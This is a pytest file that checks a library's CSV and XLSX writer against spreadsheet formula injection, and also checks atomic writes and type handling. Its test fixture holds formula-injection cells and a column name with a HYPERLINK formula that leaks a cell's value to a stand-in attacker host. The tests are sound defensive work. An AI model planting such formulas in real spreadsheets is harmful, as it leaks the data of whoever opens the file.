"""netgraph.io.tables_out: a table as CSV or XLSX, atomic, with nothing a spreadsheet would run."""

from __future__ import annotations

import csv
import datetime as dt
import zipfile

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from netgraph.errors import NetgraphError
from netgraph.io.tables_out import write_table

#: A hostile table: formula-like texts in cells and in a column name, and every type a result has.
HOSTILE = pd.DataFrame({
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")': ["=1+1", "@SUM(A1)", "-2", "+x", "\tTab", "plain"],
    "score": [0.5, np.nan, -1.0, 2.25, 0.0, 1.0],
    "count": [1, 2, 3, -4, 5, 6],
    "flag": [True, False, True, False, True, False],
    "day": [dt.date(2024, 1, 2), None, dt.date(2026, 11, 1), None, None, None],
    "names": [["Ann Lee", "=Bob"], [], ["Chen"], [], [], []],
})
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def test_csv_escapes_formula_cells_and_column_names(tmp_path):
    path = write_table(HOSTILE, tmp_path / "out.csv")
    with open(path, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    header, body = rows[0], rows[1:]
    assert header[0] == "'" + HOSTILE.columns[0]
    text = [row[0] for row in body] + [row[5] for row in body]
    assert not [cell for cell in text if cell.startswith(_FORMULA)]
    assert [row[0] for row in body][:3] == ["'=1+1", "'@SUM(A1)", "'-2"]
    assert [row[2] for row in body][3] == "-4"  # a number is no formula: left as it is
    assert body[0][4:] == ["2024-01-02", "Ann Lee; =Bob"]


def test_xlsx_holds_text_as_text_and_reads_back_exactly(tmp_path):
    path = write_table(HOSTILE, tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    back = pd.read_excel(path)
    assert list(back.columns) == list(HOSTILE.columns)
    assert back.iloc[:, 0].tolist() == HOSTILE.iloc[:, 0].tolist()
    assert back["count"].tolist() == HOSTILE["count"].tolist() and back["flag"].tolist() == HOSTILE["flag"].tolist()
    assert back["score"].isna().tolist() == HOSTILE["score"].isna().tolist()
    assert back["day"].iloc[0] == pd.Timestamp("2024-01-02") and pd.isna(back["day"].iloc[1])
    assert back["names"].iloc[0] == "Ann Lee; =Bob"


def test_several_tables_are_sheets_of_one_workbook(tmp_path):
    path = write_table({"first": HOSTILE, "second": HOSTILE.head(2)}, tmp_path / "out.xlsx")
    sheets = pd.read_excel(path, sheet_name=None)
    assert list(sheets) == ["first", "second"] and len(sheets["second"]) == 2
    with pytest.raises(NetgraphError, match="several tables cannot go in one CSV"):
        write_table({"first": HOSTILE}, tmp_path / "out.csv")


def test_unknown_formats_and_untypable_cells(tmp_path):
    with pytest.raises(NetgraphError, match="cannot write a table as 'txt'"):
        write_table(HOSTILE, tmp_path / "out.txt")
    odd = pd.DataFrame({"text": ["bell\x07 and null\x00", "x" * 40_000], "hops": [[{"from": "a"}], {"k": 1}],
                        "big": [np.inf, 1.0]})
    back = pd.read_excel(write_table(odd, tmp_path / "odd.xlsx"))
    assert back["text"].iloc[0] == "bell and null" and len(back["text"].iloc[1]) == 32_767
    assert back["hops"].tolist() == ['[{"from": "a"}]', '{"k": 1}'] and pd.isna(back["big"].iloc[0])


def test_a_failed_write_leaves_the_previous_file(tmp_path, monkeypatch):
    path = tmp_path / "out.xlsx"
    path.write_bytes(b"the previous file")
    monkeypatch.setattr("netgraph.io.tables_out._xlsx", lambda sheets: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        write_table(HOSTILE, path)
    assert path.read_bytes() == b"the previous file"


texts = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=20)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.tuples(texts, st.integers(-10**9, 10**9)), min_size=1, max_size=8))
@example([("\r=", 0)])  # a carriage return unquoted would end the row there: "=" a cell of its own
def test_any_text_is_written_as_text(tmp_path_factory, rows):
    """Whatever the text (formula-like, control characters, any script), no cell of either file can run."""
    folder = tmp_path_factory.mktemp("t")
    frame = pd.DataFrame(rows, columns=["text", "number"])
    with open(write_table(frame, folder / "t.csv"), newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in list(csv.reader(handle))[1:]]
    assert not [c for c in cells if c.startswith(_FORMULA)]
    with zipfile.ZipFile(write_table(frame, folder / "t.xlsx")) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
